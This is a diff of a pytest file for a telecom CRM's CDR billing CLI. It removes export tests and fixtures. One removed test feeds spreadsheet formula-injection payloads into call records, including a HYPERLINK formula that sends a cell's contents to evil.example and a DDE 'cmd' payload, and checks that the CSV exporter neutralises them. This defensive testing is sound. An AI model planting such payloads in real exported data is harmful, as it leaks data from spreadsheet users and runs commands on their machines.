@@ -1,6 +1,5 @@
-"""``telecrm cdr process-billing`` and ``telecrm cdr export``, end to end: the CDRs of
-the billing time zone's days rated by the engine and written back, settled invoices
-left alone."""
+"""``telecrm cdr process-billing``, end to end: the CDRs of the billing time zone's
+days rated by the engine and written back, settled invoices left alone."""
 
 from __future__ import annotations
 
@@ -28,61 +27,12 @@ from telecrm.invoices import service as invoices_service
 from telecrm.invoices.models import Invoice, InvoiceStatus
 from telecrm.invoices.service import Transition
 from telecrm.rates.models import Rate
-from telecrm.rating.types import RateType
 from tests import factories
+from tests.cdrs.conftest import WIB
 from tests.concurrency import at_once, meet_after
 from tests.conftest import CliResult
 
 Cli = Callable[..., CliResult]
-WIB = dt.timezone(dt.timedelta(hours=7))  # Asia/Jakarta, no clock changes
-
-
-@pytest.fixture()
-def jakarta(committed_db: Engine, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setenv("TELECRM_TIMEZONE", "Asia/Jakarta")
-    get_settings.cache_clear()
-
-
-@pytest.fixture()
-def calls(committed_db: Engine, jakarta: None) -> dict[str, int]:
-    """One contract on a two-prefix rate group, and calls around 5 November (WIB)."""
-    with Session(committed_db) as session, session.begin():
-        group = factories.rate_group(session)
-        factories.rate(session, group, "62", billing_rate="5000", billing_cycle=60)
-        factories.rate(
-            session, group, "62", "812", RateType.PER_SECOND, billing_rate="25", billing_cycle=1
-        )
-        contract = factories.contract(session, group, accountcode="ACME01")
-        made = {
-            # 00:30 WIB on the 5th is still the 4th in UTC
-            "early": factories.cdr(
-                session, contract, dt.datetime(2025, 11, 5, 0, 30, tzinfo=WIB), billsec=61
-            ),
-            "late": factories.cdr(
-                session,
-                contract,
-                dt.datetime(2025, 11, 5, 23, 59, 59, tzinfo=WIB),
-                dst="0215551234",
-                billsec=30,
-            ),
-            "unanswered": factories.cdr(
-                session,
-                contract,
-                dt.datetime(2025, 11, 5, 12, tzinfo=WIB),
-                billsec=0,
-                disposition="NO ANSWER",
-            ),
-            "internal": factories.cdr(
-                session, contract, dt.datetime(2025, 11, 5, 12, 1, tzinfo=WIB), dst="1002"
-            ),
-            "stranger": factories.cdr(
-                session, None, dt.datetime(2025, 11, 5, 12, 2, tzinfo=WIB), accountcode="WHO"
-            ),
-            "next_day": factories.cdr(
-                session, contract, dt.datetime(2025, 11, 6, 0, 0, tzinfo=WIB), billsec=10
-            ),
-        }
-        return {name: cdr.id for name, cdr in made.items()}
 
 
 def figure(output: str, label: str) -> str:
@@ -260,49 +210,6 @@ def test_two_runs_of_the_same_day_at_once_rate_each_call_once(
 def test_window_options_are_checked(cli: Cli, jakarta: None, args: tuple[str, ...]) -> None:
     result = cli("cdr", "process-billing", *args)
     assert result.exit_code == 1 and "error:" in result.stderr
-
-
-def test_export_csv_and_json(
-    cli: Cli, committed_db: Engine, calls: dict[str, int], tmp_path: Path
-) -> None:
-    assert cli("cdr", "process-billing", "--date", "2025-11-05").exit_code == 0
-    result = cli("cdr", "export", "--from", "2025-11-05", "--to", "2025-11-05")
-    assert result.exit_code == 0, result.output
-    rows = list(csv.DictReader(io.StringIO(result.stdout)))
-    assert [int(row["id"]) for row in rows] == [
-        calls[name] for name in ("early", "unanswered", "internal", "stranger", "late")
-    ]
-    early = rows[0]
-    assert {
-        key: early[key] for key in ("cleaned_number", "matched_prefix", "billable_seconds")
-    } == {
-        "cleaned_number": "628123456789",
-        "matched_prefix": "62812",
-        "billable_seconds": "61",
-    }
-    assert (early["cost"], early["rating_status"], early["rating_reason"]) == (
-        "1525.000000",
-        "rated",
-        "",
-    )
-    assert "exported 5 CDRs" in result.stderr
-
-    output = tmp_path / "cdrs.json"
-    written = cli(
-        "cdr", "export", "--from", "2025-11-01", "--to", "2025-11-30", "--format", "json",
-        "--output", str(output),
-    )  # fmt: skip
-    assert written.exit_code == 0, written.output
-    exported = json.loads(output.read_text())
-    assert len(exported) == 6
-    assert exported[0]["cost"] == "1525.000000" and exported[0]["rate_id"] is not None
-    internal = next(row for row in exported if row["id"] == calls["internal"])
-    assert (internal["rating_reason"], internal["cost"]) == ("internal", None)
-
-
-def test_export_of_an_empty_window(cli: Cli, committed_db: Engine, jakarta: None) -> None:
-    result = cli("cdr", "export", "--from", "2025-11-01", "--to", "2025-11-01", "--format", "json")
-    assert result.exit_code == 0 and json.loads(result.stdout) == []
 
 
 def test_rating_respects_a_db_rate_that_ends(committed_db: Engine, cli: Cli, jakarta: None) -> None:
@@ -552,43 +459,3 @@ def test_an_invalid_call_is_kept_but_never_rated_nor_invoiced(
     assert bad.validation_errors == ["billsec_exceeds_duration"]
     # never shown pending: nothing rates it until it is corrected
     assert (bad.rating_status, bad.cost, bad.invoice_id) == (None, None, None)
-
-
-def test_export_csv_cells_never_start_a_formula(
-    cli: Cli, committed_db: Engine, jakarta: None
-) -> None:
-    """Caller numbers and names come from outside: a cell a spreadsheet would run as a
-    formula gets a leading quote; a phone number or an amount that is one stays."""
-    start = dt.datetime(2025, 11, 5, 10, 0, tzinfo=WIB)
-    with Session(committed_db) as session, session.begin():
-        link = factories.cdr(
-            session,
-            start_time=start,
-            src='=HYPERLINK("http://evil.example/?x="&A1,"details")',
-            dst="+622155501234",
-            call_id="\tcall-1",
-            accountcode="\r=1+1",
-        )
-        command = factories.cdr(
-            session,
-            start_time=start + dt.timedelta(minutes=1),
-            src="+cmd|' /C calc'!A0",
-            dst="@SUM(1+1)",
-            rating_status="rated",
-            cost=Decimal("-1.50"),
-        )
-        ids = (link.id, command.id)
-    result = cli("cdr", "export", "--from", "2025-11-05", "--to", "2025-11-05")
-    assert result.exit_code == 0, result.output
-    rows = {int(r["id"]): r for r in csv.DictReader(io.StringIO(result.stdout, newline=""))}
-    assert {key: rows[ids[0]][key] for key in ("src", "dst", "call_id", "accountcode")} == {
-        "src": '\'=HYPERLINK("http://evil.example/?x="&A1,"details")',
-        "dst": "+622155501234",
-        "call_id": "'\tcall-1",
-        "accountcode": "'\r=1+1",
-    }
-    assert {key: rows[ids[1]][key] for key in ("src", "dst", "cost")} == {
-        "src": "'+cmd|' /C calc'!A0",
-        "dst": "'@SUM(1+1)",
-        "cost": "-1.500000",
-    }
